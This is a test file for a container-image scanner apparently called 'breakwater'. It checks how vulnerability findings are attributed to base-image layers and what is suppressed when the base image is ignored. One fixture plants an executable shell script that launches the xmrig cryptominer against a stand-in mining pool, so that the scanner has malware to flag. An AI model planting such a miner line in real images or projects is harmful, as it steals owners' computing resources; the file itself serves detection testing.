import { beforeEach, describe, expect, it } from 'vitest';
import type { Result } from '#kernel/result';
import { dockerEntries, writeImage } from '../images/image-writer.ts';
import { type WrittenEntry, writeTar } from '../tar-writer.ts';
import { type Ended, folderWith, run } from './program.ts';

const record = (id: string, cve: string, name: string) =>
  JSON.stringify({
    schema_version: '1.7.0',
    id,
    modified: '2026-11-01T00:00:00Z',
    aliases: [cve],
    affected: [
      {
        package: { ecosystem: 'npm', name },
        ranges: [{ type: 'SEMVER', events: [{ introduced: '0' }, { fixed: '2.0.0' }] }],
      },
    ],
  });

const installed = (name: string): WrittenEntry => ({
  name: `srv/node_modules/${name}/package.json`,
  content: Buffer.from(JSON.stringify({ name, version: '1.0.0' })),
});

const miner: WrittenEntry = {
  name: 'usr/local/bin/worker.sh',
  mode: 0o755,
  content: Buffer.from('#!/bin/sh\nexec xmrig -o stratum+tcp://pool.example:3333 -u 44Abc --donate-level 1\n'),
};

const archive = (tag: string, ...layers: readonly (readonly WrittenEntry[])[]): Buffer =>
  Buffer.from(writeTar(dockerEntries([[tag, writeImage(layers)]])));

let folder = '';
beforeEach(() => {
  folder = folderWith({
    'feed/a.json': record('GHSA-aaaa-aaaa-aaaa', 'CVE-2026-1001', 'left'),
    'feed/b.json': record('GHSA-bbbb-bbbb-bbbb', 'CVE-2026-1002', 'right'),
    'base.tar': archive('base:1', [installed('left'), miner]),
    'app.tar': archive('app:1', [installed('left'), miner], [installed('right')]),
    'other.tar': archive('other:1', [installed('right')], [installed('left')]),
    'lock/package-lock.json': '{"lockfileVersion": 3, "packages": {}}',
  });
  expect(breakwater('db', 'import', 'feed').code).toBe(0);
});

function breakwater(...args: readonly string[]): Ended {
  return run(args, { cwd: folder, env: { BREAKWATER_DB: 'db', CI: '1' } });
}

function scan(...args: readonly string[]): Result {
  return JSON.parse(breakwater('scan', '--format', 'json', ...args).stdout) as Result;
}

const vulnerabilitiesOf = ({ findings }: Result) => findings.filter(({ kind }) => kind === 'vulnerability');

describe('the base image and what was added', { timeout: 60_000 }, () => {
  it('tells which layers came with the base image', () => {
    const result = scan('app.tar', '--base-image', 'base.tar');
    expect(result.targets[0]?.image?.base).toEqual({ layers: 1, source: 'given' });
    expect(vulnerabilitiesOf(result).map(({ rule, layer }) => [rule, layer?.isBase === true])).toEqual([
      ['CVE-2026-1001', true],
      ['CVE-2026-1002', false],
    ]);
    expect(breakwater('scan', 'app.tar', '--base-image', 'base.tar').stdout).toMatch(
      /\d+ of \d+ findings came with the base image;/,
    );
  });

  it('leaves out what came with it, but neither malware nor secrets', () => {
    const result = scan('app.tar', '--base-image', 'base.tar', '--ignore-base');
    expect(vulnerabilitiesOf(result).map(({ rule }) => rule)).toEqual(['CVE-2026-1002']);
    const suppressed = result.suppressed?.filter(({ reason }) => reason === 'base-image') ?? [];
    expect(suppressed.map(({ finding }) => finding.rule)).toContain('CVE-2026-1001');
    const malware = result.findings.filter(({ kind }) => kind === 'malware');
    expect(malware.map(({ layer }) => layer?.isBase)).toContain(true);
    expect(result.gaps.filter(({ reason }) => reason.startsWith('base-image'))).toEqual([]);
  });

  it('says so when the image is built on another, and leaves nothing out', () => {
    const result = scan('other.tar', '--base-image', 'base.tar', '--ignore-base');
    expect(vulnerabilitiesOf(result)).toHaveLength(2);
    expect(result.gaps.map(({ reason }) => reason)).toEqual(
      expect.arrayContaining(['base-image-other', 'base-image-unknown']),
    );
  });

  it.each(['lock', 'nowhere.tar'])('refuses %s as a base image', (name) => {
    const ended = breakwater('scan', 'app.tar', '--base-image', name);
    expect(ended.code).toBe(2);
    expect(ended.stderr).toContain(name);
  });
});
